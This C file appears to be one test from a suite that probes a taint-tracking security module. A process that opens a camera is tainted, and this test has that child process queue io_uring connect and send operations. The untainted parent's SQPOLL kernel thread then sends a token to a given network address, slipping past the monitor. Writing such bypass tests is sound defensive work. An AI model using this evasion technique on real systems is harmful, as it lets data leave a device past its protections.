/* io_uring_sqpoll.c - attack: an untainted parent makes an SQPOLL ring and forks; the tainted child queues connect and send on it, and the parent's SQ thread does the sending. */
#include <sys/wait.h>

#include "attack.h"
#include "uring.h"

#define ROUTE "io_uring_sqpoll"

/* Lives in memory both processes share: the SQ thread reads addresses in the parent's memory. */
struct shared {
	struct sockaddr_storage ss;
	char data[256];
};

/*
 * usage: io_uring_sqpoll CAMERA A.B.C.D:PORT
 * The parent never opens a camera: it creates the ring (with IORING_SETUP_SQPOLL,
 * so a kernel thread in the parent's thread group submits), a socket and a
 * shared buffer, then forks and only waits. The child opens the camera (it
 * alone is tainted), puts its bytes in the shared buffer and queues
 * IORING_OP_CONNECT and IORING_OP_SEND. Who is judged: the child that asked,
 * or the parent whose thread ran the request?
 */
int main(int argc, char **argv)
{
	struct io_uring_sqe sqe;
	struct at_ring ring;
	struct shared *sh;
	socklen_t len;
	size_t n;
	int sock, err, res, status;
	pid_t pid;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	sh = mmap(NULL, sizeof(*sh), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return at_report_errno(ROUTE, "mmap", errno);
	at_need_inet(ROUTE, argv[2], &sh->ss, &len);
	err = at_ring_init_flags(&ring, IORING_SETUP_SQPOLL);
	if (err == EPERM)	/* biofence refuses SQPOLL rings where it enforces (lsm/uring_sqpoll) */
		return at_report_errno(ROUTE, "io_uring_setup(SQPOLL)", err);
	if (err) {
		at_result(ROUTE, "skip", "io_uring_setup(SQPOLL): %s (io_uring unavailable here)",
			  at_errname(err));
		return 0;
	}
	/* Made before the fork, so the fd means the same socket in the SQ thread's file table. */
	sock = socket(sh->ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (sock < 0)
		return at_report_errno(ROUTE, "socket", errno);
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (pid > 0) {
		/* The untainted parent runs no code of its own from here on. */
		waitpid(pid, &status, 0);
		return 0;
	}
	at_taint(ROUTE, argv[1]);
	n = at_token(sh->data, sizeof(sh->data), ROUTE);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = sock;
	sqe.addr = (uint64_t)(uintptr_t)&sh->ss;
	sqe.off = len;
	res = at_ring_run(&ring, &sqe);
	if (res < 0) {
		at_report_errno(ROUTE, "io_uring connect (via the parent's SQ thread)", -res);
		_exit(0);
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = sock;
	sqe.addr = (uint64_t)(uintptr_t)sh->data;
	sqe.len = (uint32_t)n;
	res = at_ring_run(&ring, &sqe);
	if (res < 0) {
		at_report_errno(ROUTE, "io_uring send (via the parent's SQ thread)", -res);
		_exit(0);
	}
	at_result(ROUTE, "through", "connect and send queued by the tainted child, run by the untainted parent's SQ thread: %d bytes",
		  res);
	_exit(0);
}
